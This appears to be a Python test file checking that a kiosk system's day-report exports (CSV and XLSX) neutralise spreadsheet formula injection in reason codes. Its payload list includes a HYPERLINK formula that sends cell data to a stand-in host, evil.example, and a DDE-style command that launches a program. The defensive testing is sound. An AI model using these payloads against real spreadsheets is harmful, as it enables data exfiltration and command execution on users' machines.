"""Text a kiosk sends never becomes a live formula in the office's day report (issue 13).

A rogue or damaged kiosk can push any reason code; the report labels known codes and shows an
unknown one as it came, so `=HYPERLINK(...)` would reach the clerk's spreadsheet. Every text
cell of every export (CSV and XLSX) must be text, never a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from sync.office import report as office_report
from sync.office.report import day_report, format_csv, write_xlsx
from tests.sync.test_ingest_perf_paths import push, record

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_sheet_text_never_starts_like_a_formula(payload):
    cell = office_report.sheet_text(payload)
    assert cell[0] not in "=+-@\t\r"
    assert cell.endswith(payload.lstrip("\t\r")) or payload in cell  # the words stay readable


def test_plain_words_and_the_dash_placeholder_are_left_alone():
    assert office_report.sheet_text("签名不符 1") == "签名不符 1"
    assert office_report.sheet_text("-") == "-"  # the report's "nothing" mark is no formula
    assert office_report.sheet_text("") == ""


def test_a_reason_pushed_as_a_formula_is_text_in_csv_and_xlsx(sqlite_office, tmp_path):
    office = sqlite_office
    store, _service = office.add_kiosk(tmp_path / "k")
    batch = [
        record(n, {"direction": "in", "verdict": "deny", "reasons": [payload]}) for n, payload in enumerate(FORMULAS, 1)
    ]
    assert push(office, store, batch)["statuses"] == ["stored"] * len(batch)
    report = day_report(office.engine, dt.date.today())

    for lang in ("zh", "en"):
        cells = [c for row in csv.reader(io.StringIO(format_csv(report, lang))) for c in row]
        assert any("HYPERLINK" in c for c in cells)  # the text is there, to be read
        assert not [c for c in cells if (c and c[0] in "=+@\t\r") or (len(c) > 1 and c[0] == "-")]

        path = tmp_path / f"day-{lang}.xlsx"
        write_xlsx(report, path, lang)
        book = load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                    if isinstance(cell.value, str) and len(cell.value) > 1 and cell.value[0] in "=+-@\t\r":
                        # Kept exactly, as a string cell Excel will not read as a formula on editing.
                        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
        texts = [c.value for s in book.worksheets for r in s.iter_rows() for c in r if isinstance(c.value, str)]
        assert any("HYPERLINK" in t for t in texts)
